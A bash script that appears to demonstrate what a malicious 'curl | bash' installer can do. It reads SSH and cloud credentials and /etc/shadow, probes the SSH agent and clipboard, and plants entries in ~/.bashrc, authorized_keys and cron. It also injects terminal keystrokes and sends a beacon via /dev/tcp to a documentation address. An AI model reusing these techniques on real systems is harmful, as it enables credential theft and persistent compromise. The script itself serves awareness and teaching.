#!/usr/bin/env bash
# An installer as they come with `curl https://... | bash`. It does install its
# program; and then it does what you would not like, and prints what it got.
#
# It is harmless by construction: the secrets that it looks for are planted by
# the demo under names nobody else uses, 203.0.113.7 is an address reserved for
# documentation, and its background process ends by itself after a minute.

name=acme-updater
loot=0

step() { printf '==> %s\n' "$*"; }
row() { printf '    %-34s %s\n' "$1" "$2"; }

# steal WHAT COMMAND...: run it, and show the first line of what it says.
steal() {
	local what=$1 text
	shift
	if text=$("$@" 2>&1); then
		loot=$((loot + 1))
		row "$what" "GOT  ${text%%$'\n'*}"
	else
		text=${text%%$'\n'*}
		row "$what" "-    ${text##*: }"
	fi
}

# plant FILE: leave something there.
plant() {
	local text
	if text=$( { mkdir -p "${1%/*}" && echo "# $name" >>"$1"; } 2>&1); then
		loot=$((loot + 1))
		row "${1/#$HOME\//'~/'}" "WROTE"
	else
		row "${1/#$HOME\//'~/'}" "-    ${text##*: }"
	fi
}

environment_of_mine() {
	echo "${ACME_DEMO_TOKEN:-not set}"
	[[ -n ${ACME_DEMO_TOKEN:-} ]]
}

environment_of_others() {
	local file
	for file in /proc/[0-9]*/environ; do
		tr '\0' '\n' <"$file" | grep '^ACME_DEMO_TOKEN=' && return
	done 2>/dev/null
	echo 'none of them'
	return 1
}

send() {
	timeout 3 bash -c "exec 3<>/dev/tcp/$1/$2 && echo 'id: $loot' >&3 && echo sent"
}

agent_keys() {
	perl -MSocket -e '
		socket(my $s, AF_UNIX, SOCK_STREAM, 0) or die "$!\n";
		connect($s, sockaddr_un($ENV{SSH_AUTH_SOCK} // "/nonexistent")) or die "$!\n";
		print "connected\n"'
}

clipboard() {
	local tool
	for tool in wl-paste xclip xsel; do
		timeout 3 "$tool" -o 2>/dev/null && return
	done
	echo 'no display'
	return 1
}

# Type a line into the terminal, as if you had: the next shell would run it.
type_ahead() {
	perl -e '
		open(my $tty, "+<", "/dev/tty") or die "no terminal\n";
		for (split //, " # '$name' was here\n") { ioctl($tty, 0x5412, $_) or die "$!\n" }
		print "typed\n"'
}

stay() {
	# shellcheck disable=SC2016 # perl variables
	setsid perl -MSocket -e '
		$0 = "'$name'"; $SIG{HUP} = "IGNORE"; alarm 60;
		socket(my $s, AF_INET, SOCK_STREAM, 0);
		bind($s, sockaddr_in(47811, INADDR_ANY)) and listen($s, 1);
		sleep 60' </dev/null >/dev/null 2>&1 &
	echo "process $!, port 47811"
}

printf 'acme-tools 2.4\n'
step "installing into ~/.local/bin"
mkdir -p ~/.local/bin && printf '#!/bin/sh\necho acme 2.4 works\n' >~/.local/bin/acme &&
	chmod +x ~/.local/bin/acme && row acme "$(~/.local/bin/acme)"

step "looking around, as $(id -un) (uid $(id -u)) on $(uname -n)"
steal 'your SSH key' cat ~/.ssh/id_ed25519
steal 'your cloud credentials' cat ~/.aws/credentials
steal 'your documents' cat ~/Documents/diary.txt
steal 'a secret in the environment' environment_of_mine
steal "other programs' environments" environment_of_others
steal 'your SSH agent' agent_keys
steal 'your clipboard' clipboard
steal 'the password hashes' cat /etc/shadow

step "making sure to come back"
plant ~/.bashrc
plant ~/.ssh/authorized_keys
plant "$PWD/$name"
plant "/usr/local/bin/$name"
plant "/etc/cron.d/$name"
plant "/tmp/$name"
steal 'your terminal' type_ahead
steal 'a process in the background' stay

step "phoning home"
steal '203.0.113.7 port 443' send 203.0.113.7 443
steal 'a service on your loopback' send 127.0.0.1 47810

step "done: it believes that it got $loot things"
